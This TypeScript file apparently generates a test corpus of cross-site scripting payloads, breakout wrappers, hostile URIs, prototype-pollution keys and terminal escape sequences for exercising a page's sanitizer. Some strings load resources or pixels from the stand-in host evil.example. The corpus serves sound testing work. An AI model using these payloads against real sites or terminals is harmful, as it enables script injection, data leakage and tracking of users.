/** Texts that run, load or hide something if a page treats them as anything but text. Each of them is different. */

/** The name that every one of them calls if it runs. */
export const alarm = "cogniAlarm"

const run = (n: number) => `${alarm}('payload ${n}')`

/** Markup that runs a script when it is parsed. */
const markup: ReadonlyArray<(n: number) => string> = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<ScRiPt >${run(n)}</sCrIpT>`,
  (n) => `<img src=x onerror=${run(n)}>`,
  (n) => `<img src="x" onerror="${run(n)}" />`,
  (n) => `<svg onload=${run(n)}>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${run(n)}"><text>x</text></a></svg>`,
  (n) => `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=${run(n)}>`,
  (n) => `<body onload=${run(n)}>`,
  (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<object data="javascript:${run(n)}"></object>`,
  (n) => `<embed src="javascript:${run(n)}">`,
  (n) => `<a href="javascript:${run(n)}" autofocus onfocus=${run(n)}>x</a>`,
  (n) => `<input autofocus onfocus=${run(n)}>`,
  (n) => `<details open ontoggle=${run(n)}><summary>x</summary></details>`,
  (n) => `<video><source onerror=${run(n)}></video>`,
  (n) => `<audio src=x onerror=${run(n)}>`,
  (n) => `<marquee onstart=${run(n)}>x</marquee>`,
  (n) => `<form action="javascript:${run(n)}"><button autofocus>x</button></form>`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`,
  (n) => `<link rel="stylesheet" href="https://evil.example/${n}.css">`,
  (n) => `<style>@import "https://evil.example/${n}.css";</style>`,
  (n) => `<base href="https://evil.example/${n}/">`,
  (n) => `<template shadowrootmode=open><img src=x onerror=${run(n)}></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<!--><img src=x onerror=${run(n)}>-->`,
  (n) => `<![CDATA[<img src=x onerror=${run(n)}>]]>`,
  (n) => `<img src="https://evil.example/pixel/${n}">`
]

/** Ways to break out of the place where a text is put. */
const around: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `"> ${text}`,
  (text) => `'> ${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `]]>${text}`,
  (text) => `*/${text}/*`,
  (text) => `\u0000${text}\u0007`,
  (text) => `\u202e${text}\u2066`,
  (text) => `&lt;p&gt;${text}`,
  (text) => `\n\r\n${text}\t`,
  (text) => `$${"{"}${text}${"}"}{{${text}}}`,
  (text) => `%3Cb%3E${text}`,
  (text) => `\ud800${text}\udfff`,
  (text) => `${"\u0301".repeat(40)}${text}`,
  (text) => `[link](javascript:${text})`
]

/** Texts that are hostile without markup. */
const others: ReadonlyArray<(n: number) => string> = [
  (n) => `javascript:${run(n)}`,
  (n) => `JaVaScRiPt:${run(n)}//https://github.com/acme/app/pull/${n}`,
  (n) => `\u0001javascript:${run(n)}`,
  (n) => `java\tscript:${run(n)}`,
  (n) => `data:text/html,<script>parent.${run(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>${run(n)}</script>`).toString("base64")}`,
  (n) => `vbscript:${run(n)}`,
  (n) => `blob:https://evil.example/${n}`,
  (n) => `//evil.example/${n}`,
  (n) => `https://user:password@evil.example/${n}`,
  (n) => `"};${run(n)};//`,
  (n) => `');${run(n)};//`,
  (n) => `\`-${run(n)}-\``,
  (n) => `__proto__`.padEnd(9 + n, "_"),
  (n) => `constructor[${n}]`,
  (n) => `\u001b]8;;javascript:${run(n)}\u0007link\u001b]8;;\u0007`,
  (n) => `\u001b]8;;https://evil.example/${n}\u001b\\link\u001b]8;;\u001b\\`,
  (n) => `\u001b]0;title ${n}\u0007\u001b]52;c;ZXZpbA==\u0007`,
  (n) => `\u001b[2J\u001b[H\u001b[?1049h\u001b[?1000h${n}`,
  (n) => `\u001b[c\u001b[6n\u001b[>c\u001b[5n${n}`,
  (n) => `\u001b[38;2;${n % 256};0;255mcolor\u001b[0m`,
  (n) => `\u001bP+q544e\u001b\\\u001b_x${n}\u001b\\`,
  (n) => `\u202eexe.fdp ${n}`,
  (n) => `\u200b\u200d\ufeff${n}\u2028\u2029`,
  (n) => `${"A".repeat(5000)}${n}`
]

/** The corpus. */
export const texts: ReadonlyArray<string> = [
  ...around.flatMap((wrap, row) => markup.map((make, column) => wrap(make(row * markup.length + column)))),
  ...[0, 1].flatMap((round) => others.map((make, index) => make(1000 + round * others.length + index)))
]
